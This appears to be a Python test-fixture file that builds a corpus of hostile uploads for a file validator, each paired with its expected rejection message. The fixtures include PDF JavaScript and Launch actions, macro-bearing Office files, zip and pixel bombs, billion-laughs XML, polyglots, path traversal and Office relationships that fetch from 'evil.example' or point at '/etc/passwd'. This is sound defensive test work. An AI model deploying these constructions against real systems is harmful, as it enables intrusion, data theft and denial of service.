"""Files nobody should take, made in code: what each is, its name, its bytes, and the sentence that refuses it."""

import struct
import zlib
from collections.abc import Iterator

from tests.builders.documents import (
    PRESENTATION,
    a_box,
    a_docx,
    a_film,
    a_pdf,
    a_picture,
    a_pptx,
    a_sheet,
    an_archive,
    relations,
)

MIXED = "holds something of another kind inside"
BEHIND = "something behind the end"
TRUNCATED = "its end is missing"
PROGRAMS = "holds programs or forms that act"
FILES = "holds other files inside"
LOCKED = "locked with a password"
BOMB = "unfold to far more than it looks"
MACROS = "holds macros"
OBJECTS = "holds other documents or programs inside"
FETCHES = "fetches something from elsewhere"
SVG = "SVG drawings can carry programs"
KINDS = "Please choose a PDF"
DAMAGED = "damaged"
NAME = "The name says"
BEFORE = "something before the beginning"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
VBA = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
WORD_VBA = "application/vnd.ms-word.document.macroEnabled.main+xml"
ARCHIVE = an_archive({"Evil.class": b"\xca\xfe\xba\xbe"})
SCRIPT = b"<script>alert(1)</script>"
Case = tuple[str, str, bytes, str]


def packed_objects(inner: bytes) -> str:
    """An object stream that hides its objects in packed bytes."""
    packed = zlib.compress(inner).decode("latin-1")
    return f"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n{packed}\nendstream"


def with_segment(content: bytes) -> bytes:
    """A JPEG with a comment."""
    picture = a_picture("JPEG")
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(content)) + content + picture[2:]


def with_chunk(content: bytes) -> bytes:
    """A PNG with a text chunk before its pixels."""
    picture = a_picture()
    chunk = struct.pack(">I", len(content)) + b"tEXt" + content + struct.pack(">I", zlib.crc32(b"tEXt" + content))
    return picture[:33] + chunk + picture[33:]


def an_overlapping_archive() -> bytes:
    """An archive whose list names the same bytes many times (the quoted-overlap bomb)."""
    content = bytearray(a_pptx({"ppt/media/a.png": b"\x00" * 1000, "ppt/media/b.png": b"\x00" * 1000}))
    first, second = content.index(b"ppt/media/a.png"), content.index(b"ppt/media/b.png")
    start = content.index(b"PK\x01\x02", second)
    entry_a = content.index(b"ppt/media/a.png", start) - 46
    entry_b = content.index(b"ppt/media/b.png", start) - 46
    offset = content[entry_a + 42 : entry_a + 46]
    content[entry_b + 42 : entry_b + 46] = offset
    assert first < second
    return bytes(content)


def pdfs() -> Iterator[Case]:
    """Documents that do something, carry something, or are two things."""
    action = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    yield "PDF with JavaScript", "a.pdf", a_pdf(catalog=action), PROGRAMS
    yield (
        "PDF with JavaScript in disguise",
        "a.pdf",
        a_pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        PROGRAMS,
    )
    hidden = packed_objects(b"9 0  << /S /JavaScript /JS (app.alert(1)) >>")
    yield "PDF with JavaScript in a packed stream", "a.pdf", a_pdf(extra=(hidden,)), PROGRAMS
    lzw = hidden.replace("/FlateDecode", "/LZWDecode")
    yield "PDF with objects packed unusually", "a.pdf", a_pdf(extra=(lzw,)), "packed in an unusual way"
    yield "PDF with objects behind a false stream", "a.pdf", a_pdf(extra=(f"(stream\n) << {action} >>",)), PROGRAMS
    yield "PDF that starts a program", "a.pdf", a_pdf(catalog="/OpenAction << /S /Launch /F (calc.exe) >>"), PROGRAMS
    yield "PDF with a form that sends", "a.pdf", a_pdf(catalog="/AA << /O << /S /SubmitForm >> >>"), PROGRAMS
    yield "PDF with an XFA form", "a.pdf", a_pdf(catalog="/AcroForm << /XFA [] >>"), PROGRAMS
    yield "PDF with a film player", "a.pdf", a_pdf(extra=("<< /Subtype /RichMedia >>",)), PROGRAMS
    yield "PDF with a file inside", "a.pdf", a_pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"), FILES
    yield "PDF with a lock", "a.pdf", a_pdf(trailer="/Encrypt 9 0 R"), LOCKED
    yield "PDF and archive", "a.pdf", a_pdf() + ARCHIVE, MIXED
    yield "PDF and page behind its end", "a.pdf", a_pdf(8) + SCRIPT, BEHIND
    yield "PDF and page at its beginning", "a.pdf", a_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html>\n", 1), MIXED
    yield "PDF with something before it", "a.pdf", b"\x00" * 100 + a_pdf(), BEFORE
    yield "picture with a PDF before it", "a.png", b"GIF89a%PDF-1.4" + a_pdf(), BEFORE
    yield "PDF without its end", "a.pdf", a_pdf()[:400], TRUNCATED
    yield "PDF that only says so", "a.pdf", b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF", DAMAGED
    yield "PDF with too many pages", "a.pdf", a_pdf(201), "more than 200 pages"


def offices() -> Iterator[Case]:
    """Archives that say they are documents."""
    yield "archive", "a.pptx", ARCHIVE, "Archives are not taken"
    yield "slides with macros", "a.pptx", a_pptx({"ppt/vbaProject.bin": b"x"}), MACROS
    yield "slides of the macro kind", "a.pptx", a_pptx(kind=VBA), MACROS
    yield "text of the macro kind", "a.docx", a_docx(kind=WORD_VBA), MACROS
    yield "slides by the name of macros", "a.pptm", a_pptx(kind=VBA), MACROS
    yield "text with ActiveX", "a.docx", a_docx({"word/activeX/activeX1.xml": "<x/>"}), MACROS
    yield "slides with an OLE object", "a.pptx", a_pptx({"ppt/embeddings/oleObject1.bin": OLE}), OBJECTS
    yield "slides with a program", "a.pptx", a_pptx({"ppt/media/image1.exe": b"MZ"}), MIXED
    yield "slides with a program as a picture", "a.pptx", a_pptx({"ppt/media/image1.png": b"MZ\x90\x00"}), MIXED
    yield "slides with an archive as a picture", "a.pptx", a_pptx({"ppt/media/image1.png": ARCHIVE}), MIXED
    yield "slides with a page", "a.pptx", a_pptx({"ppt/media/a.html": SCRIPT}), MIXED
    yield "slides with a scripted drawing", "a.pptx", a_pptx({"ppt/media/a.svg": b"<svg onload='x()'/>"}), SVG
    inner = a_sheet({"xl/vbaProject.bin": b"x"})
    yield "slides with a table with macros", "a.pptx", a_pptx({"ppt/embeddings/Sheet1.xlsx": inner}), MACROS
    nested = a_sheet({"xl/embeddings/Sheet2.xlsx": a_sheet()})
    yield "slides with tables in tables", "a.pptx", a_pptx({"ppt/embeddings/Sheet1.xlsx": nested}), OBJECTS
    zeros = b"\x00" * (40 << 20)
    yield "slides with a bomb", "a.pptx", a_pptx({"ppt/media/a.png": zeros}), BOMB
    bomb = a_sheet({"xl/media/a.png": zeros})
    yield "slides with a bomb in a table", "a.pptx", a_pptx({"ppt/embeddings/Sheet1.xlsx": bomb}), BOMB
    yield "slides with too many parts", "a.pptx", a_pptx({f"ppt/a{n}.xml": "<a/>" for n in range(4001)}), BOMB
    yield "slides that overlap themselves", "a.pptx", an_overlapping_archive(), MIXED
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    yield "slides that laugh a billion times", "a.pptx", a_pptx({"ppt/slides/slide1.xml": laughs}), BOMB
    wide = f'<?xml version="1.0" encoding="utf-16"?>{laughs}'.encode("utf-16")
    yield "the same in wide letters", "a.pptx", a_pptx({"ppt/slides/slide1.xml": wide}), BOMB
    for kind, target in (
        ("attachedTemplate", "http://evil.example/x.dotm"),
        ("oleObject", "file:///etc/passwd"),
        ("image", "http://evil.example/beacon.png"),
        ("hyperlink", "javascript:alert(1)"),
    ):
        reach = relations((kind, target, "External"))
        yield f"slides that reach out ({kind})", "a.pptx", a_pptx({"ppt/_rels/presentation.xml.rels": reach}), FETCHES
    yield "slides with a way out of their folder", "a.pptx", a_pptx({"../../evil.xml": "<a/>"}), MIXED
    yield "slides with something before them", "a.pptx", b"MZ" + a_pptx(), KINDS
    yield "slides with something behind them", "a.pptx", a_pptx() + b"MZ" * 20, BEHIND
    yield "slides without their end", "a.pptx", a_pptx()[:-30], TRUNCATED
    yield "slides with a broken part", "a.pptx", a_pptx({"ppt/slides/slide1.xml": "<a>"}), DAMAGED
    yield "slides under the name of a text", "a.docx", a_pptx(), NAME
    yield "old or locked slides", "a.pptx", OLE + b"\x00" * 600, "old or encrypted office file"
    yield "spreadsheet", "a.xlsx", a_sheet(), NAME
    two = {"[Content_Types].xml": f'<Types><Override PartName="/a" ContentType="{PRESENTATION}"/></Types>'}
    yield "slides with two lists of contents", "a.pptx", twice(a_pptx(two)), MIXED


def twice(content: bytes) -> bytes:
    """The archive with the central record of one entry pointing at another's name."""
    start = content.index(b"PK\x01\x02")
    name = content.index(b"_rels/.rels", start)
    return content[:name] + b"_rels/_rels" + content[name + 11 :]


def pictures_and_films() -> Iterator[Case]:
    """What should be pixels and is more, or less."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "drawing with a script", "a.svg", svg, SVG
    yield "drawing under another name", "a.png", svg, SVG
    yield "drawing with a preface", "a.png", b'\xef\xbb\xbf<?xml version="1.0"?>\n' + svg, SVG
    yield "page", "a.pdf", b"<!doctype html>" + SCRIPT, "Web pages are not taken"
    yield "moving picture", "a.gif", a_picture("GIF"), KINDS
    yield "picture and archive (GIFAR)", "a.jpg", a_picture("JPEG") + ARCHIVE, MIXED
    yield "picture and archive in PNG", "a.png", a_picture() + ARCHIVE, MIXED
    yield "picture with a page behind it", "a.jpg", a_picture("JPEG") + SCRIPT, BEHIND
    yield "picture with bytes behind it", "a.webp", a_picture("WEBP") + b"secret", BEHIND
    yield "picture with a page in its comment", "a.jpg", with_segment(SCRIPT), MIXED
    yield "picture with a PDF in its comment", "a.jpg", with_segment(b"%PDF-1.4 x"), MIXED
    yield "picture with a page in its text", "a.png", with_chunk(b"Comment\x00" + SCRIPT), MIXED
    yield "picture without its end", "a.jpg", a_picture("JPEG")[:-20], TRUNCATED
    yield "PNG without its end", "a.png", a_picture()[:-20], TRUNCATED
    yield "WebP without its end", "a.webp", a_picture("WEBP")[:-6], TRUNCATED
    yield "picture of noise", "a.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, DAMAGED
    huge = struct.pack(">IIBBBBB", 20000, 20000, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in ((b"IHDR", huge), (b"IDAT", zlib.compress(b"\x00" * 1000)), (b"IEND", b""))
    )
    yield "picture of 400 million pixels", "a.png", bomb, "too many pixels"
    yield "PNG under the name of a PDF", "a.pdf", a_picture(), NAME
    yield "film without its end", "a.mp4", a_film()[:-100], TRUNCATED
    yield "film with a strange box", "a.mp4", a_film(a_box(b"evil", SCRIPT)), MIXED
    yield "film with a page in a free box", "a.mp4", a_film(a_box(b"free", SCRIPT)), MIXED
    yield "film and archive", "a.mp4", a_film(a_box(b"free", ARCHIVE)), MIXED
    yield "film without pictures", "a.mp4", a_film(handler=b"soun"), "no pictures that can be played"
    yield "film of another kind", "a.mp4", a_film(brand=b"qt  "), "MP4 (H.264)"
    yield "film that claims 5 GB", "a.mp4", a_film() + struct.pack(">I4sQ", 1, b"mdat", 5 << 30), TRUNCATED
    yield "nothing at all", "a.pdf", b"", "empty"
    yield "noise", "a.pdf", bytes(range(256)) * 8, KINDS
    yield "program", "a.pdf", b"MZ\x90\x00" * 200, KINDS


def corpus() -> list[Case]:
    """All of them."""
    return [*pdfs(), *offices(), *pictures_and_films()]
